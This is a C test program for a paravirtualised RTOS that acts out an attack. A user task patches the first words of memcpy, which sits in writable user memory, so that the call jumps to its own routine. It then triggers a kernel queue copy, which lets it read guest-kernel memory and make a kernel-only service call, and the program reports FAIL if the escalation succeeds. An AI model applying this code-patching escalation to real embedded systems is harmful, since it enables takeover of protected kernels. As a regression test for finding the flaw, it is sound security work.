/*
 * rtesc - attacker: a task takes guest-kernel rights by rewriting library
 * code that the guest kernel calls.
 *
 * The guest kernel (tick core + pv port, pv_gk.o) is linked without a
 * library; its calls to memcpy, memset, strlen, __aeabi_uidiv and
 * __aeabi_uidivmod, and to pv_user_init, resolve at the final link to
 * newlib and libgcc, which linker/partition.ld places in the user range.
 * A task may write the whole user range, code included. So the task
 * overwrites the first two words of memcpy with "ldr pc, [pc, #-4]" and the
 * address of its own copy routine, then sends an item on a queue: the tick
 * core's os_queue_send copies the item with memcpy in guest-kernel mode, and
 * the task's routine runs there. It proves its rights by reading a word of
 * guest-kernel memory (gk_secret, OS_KOBJ) and the vCPU page, and by making
 * a guest-kernel-only service call (TIMER_SET), then does the copy so that
 * the guest kernel goes on. A direct read of gk_secret by the task, the
 * control, is refused (data abort, on_fault = "log").
 *
 * The run ends with
 *   RESULT rt-escalate FAIL task ran guest-kernel code ...   (status 1)
 * when the escalation worked, "RESULT rt-escalate PASS" (status 0) if not.
 */
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include "os.h"
#include "pv_svc.h"

#define GK_SECRET 0xC0DE6C5Eu

extern struct pk_vcpu pv_vcpu; /* linker/partition.ld */

static OS_KOBJ volatile uint32_t gk_secret;
static OS_KOBJ struct os_queue queue;
static OS_KOBJ uint32_t queue_storage[4];
static OS_KOBJ struct os_task task;
static _Alignas(8) port_stack_t stack[512];

/* What the routine saw in guest-kernel mode (user memory: the task reads
 * it afterwards). */
static volatile uint32_t seen_calls, seen_secret, seen_part_index;
static volatile int32_t seen_timer_set = 1;

/* The replacement of memcpy, entered in whatever mode memcpy was called
 * in. Volatile byte copies, so that the compiler does not turn the loop
 * back into a memcpy call. */
void *rtesc_copy(void *dst, const void *src, size_t n);
void *rtesc_copy(void *dst, const void *src, size_t n)
{
    volatile uint8_t *d = dst;
    const volatile uint8_t *s = src;
    for (size_t i = 0; i < n; i++)
        d[i] = s[i];
    if (seen_calls++ == 0u) {
        seen_secret = gk_secret;
        seen_part_index = pv_vcpu.part_index;
        seen_timer_set = pv_svc(PK_SVC_TIMER_SET, 0xFFFFFFFFu, 0xFFFFFFFFu,
                                0u);
    }
    return dst;
}

static void run(void *arg)
{
    (void)arg;
    /* Control: the task itself may not read guest-kernel memory. */
    uint32_t direct = gk_secret;
    printf("rtesc: direct read of gk_secret by the task gives 0x%08lx\n",
           (unsigned long)direct);

    /* Patch memcpy with virtual interrupts masked, so that no upcall runs
     * a half-written memcpy. */
    volatile uint32_t *m = (volatile uint32_t *)(uintptr_t)&memcpy;
    os_critical_enter();
    m[1] = (uint32_t)(uintptr_t)rtesc_copy;
    m[0] = 0xE51FF004u; /* ldr pc, [pc, #-4] */
    os_critical_exit();

    uint32_t item = 0x1234u, out = 0u;
    enum os_status s = os_queue_send(&queue, &item, 0u);
    enum os_status r = os_queue_receive(&queue, &out, 0u);
    printf("rtesc: send=%d receive=%d item=0x%lx copies=%lu "
           "secret=0x%08lx part_index=%lu timer_set=%ld\n",
           (int)s, (int)r, (unsigned long)out, (unsigned long)seen_calls,
           (unsigned long)seen_secret, (unsigned long)seen_part_index,
           (long)seen_timer_set);
    if (seen_calls != 0u && seen_secret == GK_SECRET && seen_timer_set == 0)
        printf("RESULT rt-escalate FAIL task ran guest-kernel code: read "
               "gk_secret=0x%08lx, TIMER_SET returned 0\n",
               (unsigned long)seen_secret);
    else
        printf("RESULT rt-escalate PASS\n");
    pv_test_exit(seen_calls != 0u ? 1 : 0);
}

int main(void)
{
    os_init();
    gk_secret = GK_SECRET;
    (void)os_queue_init(&queue, queue_storage, sizeof(uint32_t), 4u);
    os_task_create(&task, "rtesc", run, NULL, 2, stack, 512u);
    os_start();
}
